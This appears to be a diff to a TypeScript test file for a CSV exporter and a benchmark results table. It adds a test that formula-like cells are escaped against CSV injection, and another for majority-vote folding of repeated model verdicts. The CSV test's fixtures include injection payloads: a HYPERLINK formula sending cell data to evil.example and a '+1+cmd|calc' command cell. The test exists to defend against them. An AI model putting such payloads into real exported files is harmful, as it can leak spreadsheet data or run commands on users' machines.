@@ -25,6 +25,20 @@ describe('CSV', () => {
     const rows = [['a', 'b,c', 'say "hi"', 'x\r\ny', '']];
     expect(parseCsv(toCsv(rows))).toEqual(rows);
   });
+  it('writes formula-like cells as text (OWASP CSV injection) and reads them back unchanged', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', "'=already quoted"];
+    const safe = ['-0.5', '+3', '1e-3', 'normal', 'R1-R2'];
+    const csv = toCsv([[...hostile, ...safe]]);
+    const cells = csv.replace(/\r\n$/, '');
+    // Every hostile cell, as a spreadsheet sees it, starts with an apostrophe (inside quotes where needed).
+    for (const h of hostile) expect(cells).not.toMatch(new RegExp(`(^|,)"?${h.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+    expect(cells.startsWith('"\'=HYPERLINK(')).toBe(true);
+    expect(cells).toContain(",'+1+cmd|calc,");
+    expect(cells).toContain(",'@SUM(A1),");
+    // Plain numbers stay numbers.
+    expect(cells.endsWith(',-0.5,+3,1e-3,normal,R1-R2')).toBe(true);
+    expect(parseCsv(csv)).toEqual([[...hostile, ...safe]]);
+  });
   it('names the file when a quote is never closed', () => {
     expect(() => parseCsv('a,"b\n', 'labels.csv')).toThrow(/labels\.csv ends inside a quoted field/);
   });
@@ -64,7 +78,28 @@ describe('results table', () => {
   it('gives the authors’ answer format with correctness 1 = normal and says what it left out', () => {
     const { answers, skipped } = toAuthorsAnswers(rows, { bottle: 'bottle/train/good/000.png' });
     expect(answers).toEqual([{ object_type: 'bottle', defect_img_path: 'bottle/test/c1.png', good_img_path: 'bottle/train/good/000.png', label: 0, defect_type: 'crack', reasoning: results[0].reasoning, correctness: 0 }]);
-    expect(skipped).toEqual({ failed: 1, unlabelled: 1 });
+    expect(skipped).toEqual({ failed: 1, unlabelled: 1, folded: 0 });
+  });
+  it('writes one majority answer per case when a run repeats, as the metrics vote', () => {
+    const rep = (caseId: string, n: number, p: Partial<Result>): Result => ({ id: `r3:${caseId}:${n}`, runId: 'r3', caseId, rep: n, status: 'ok', createdAt: 1, ...p });
+    const run3: Run = { ...run, id: 'r3', repeat: 3 };
+    const repeated = buildExportRows(cases, [run3], [
+      rep('c1', 0, { verdict: 'normal', reasoning: 'looks fine' }),
+      rep('c1', 1, { verdict: 'anomalous', reasoning: 'crack at the rim' }),
+      rep('c1', 2, { verdict: 'anomalous', reasoning: 'crack again' }),
+      rep('c2', 0, { status: 'error', error: { kind: 'http', message: 'x' } }),
+      rep('c2', 1, { verdict: 'normal', reasoning: 'clean' }),
+      rep('c2', 2, { status: 'unparsed' }),
+    ]);
+    const { answers, skipped } = toAuthorsAnswers(repeated);
+    expect(answers.map((a) => [a.defect_img_path, a.correctness, a.reasoning])).toEqual([
+      ['bottle/test/c1.png', 0, 'crack at the rim'],
+      ['bottle/test/c2.png', 1, 'clean'],
+    ]);
+    expect(skipped).toEqual({ failed: 0, unlabelled: 0, folded: 2 });
+    // The same verdicts the metrics fold from the same rows.
+    const outcomes = outcomesByRun(repeated).get('r3')!;
+    expect(outcomes.map((o) => o.verdict)).toEqual(['anomalous', 'normal']);
   });
 });
 
